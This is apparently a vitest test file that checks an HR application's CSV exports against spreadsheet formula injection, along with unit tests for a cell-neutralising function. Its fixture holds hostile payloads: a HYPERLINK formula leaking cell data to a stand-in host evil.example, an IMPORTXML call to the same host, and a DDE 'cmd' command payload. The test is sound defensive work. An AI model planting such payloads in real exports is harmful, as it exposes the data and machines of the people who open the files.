import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, createTestOrg, type TestOrg } from '../../test/fixtures';
import { createTestApp, type TestApp } from '../../test/test-app';
import { neutraliseCell } from '../platform/http/csv';

/*
 * Issue #9, defect 3: names, job titles and unit names starting with = + - @ came back as live
 * formulas in the CSV exports, which managers and the works council download. Every export of
 * the OpenAPI document gets a hostile row; no cell of its CSV may start like a formula.
 */

const HOSTILE = {
  unit: '=HYPERLINK("http://evil.example/?leak="&C2,"klik")',
  givenName: '+SUM(1,1)',
  surname: '@IMPORTXML("http://evil.example")',
  jobTitle: "-2+3+cmd|' /C calc'!A0",
  surnamePrefix: '=1+1',
};

/** Query parameters per export; an export missing here fails the first test. */
const EXPORTS: Record<string, string> = {
  '/api/v1/people/export': 'format=csv&status=all',
  '/api/v1/absence-stats/export': 'format=csv&from=2025-01-01&to=2025-12-31&groupBy=unit',
};

let t: TestApp;
let org: TestOrg;
beforeAll(async () => {
  t = await createTestApp();
  t.clock.set(new Date('2025-06-30T10:00:00Z'));
  org = await createTestOrg(t);
  const cookie = org.users.hr.cookie;
  const unit = await api(t, '/api/v1/units', { method: 'POST', cookie, body: { name: HOSTILE.unit } });
  expect(unit.status).toBe(201);
  const person = await api(t, '/api/v1/people', {
    method: 'POST',
    cookie,
    body: {
      employeeNumber: '=9999',
      givenName: HOSTILE.givenName,
      surnamePrefix: HOSTILE.surnamePrefix,
      surname: HOSTILE.surname,
      email: null,
      employment: {
        startDate: '2024-01-01',
        hoursPerWeek: 32,
        jobTitle: HOSTILE.jobTitle,
        unitId: (await unit.json()).id,
      },
    },
  });
  expect(person.status).toBe(201);
  const sick = await api(t, '/api/v1/absences', {
    method: 'POST',
    cookie,
    body: { personId: (await person.json()).id, startDate: '2025-03-03' },
  });
  expect(sick.status).toBe(201);
});
afterAll(() => t.close());

describe('CSV exports neutralise formulas (OWASP CSV injection)', () => {
  it('covers every export of the API', async () => {
    const doc = (await (await t.app.request('/api/openapi.json')).json()) as {
      paths: Record<string, unknown>;
    };
    const exports = Object.keys(doc.paths).filter((p) => p.endsWith('/export'));
    expect(exports.sort()).toEqual(Object.keys(EXPORTS).sort());
  });

  it.each(Object.entries(EXPORTS))('%s', async (path, query) => {
    const res = await api(t, `${path}?${query}`, { cookie: org.users.hr.cookie });
    expect(res.status).toBe(200);
    const text = (await res.text()).replace(/^\uFEFF/, '');
    const cells = Papa.parse<string[]>(text, { delimiter: ';' }).data.flat();
    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(live).toEqual([]);
    // the hostile text is there, as text: the export did not simply drop it
    const hostileHere = Object.values(HOSTILE).filter((h) => cells.some((c) => c.includes(h)));
    expect(hostileHere.length).toBeGreaterThan(0);
    for (const h of hostileHere)
      expect(cells.some((c) => c.startsWith(`'${h}`) || c.includes(` ${h}`))).toBe(true);
  });
});

describe('neutraliseCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+31 6 1234', "'+31 6 1234"],
    ['-', "'-"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tverborgen', "'\tverborgen"],
    ['\r=1', "'\r=1"],
    ['=1\n=2', "'=1\n=2"],
    ['Jansen', 'Jansen'],
    ['', ''],
    ["'al tekst", "'al tekst"],
    ['a=b', 'a=b'],
  ])('%j → %j', (input, output) => {
    expect(neutraliseCell(input)).toBe(output);
  });
});
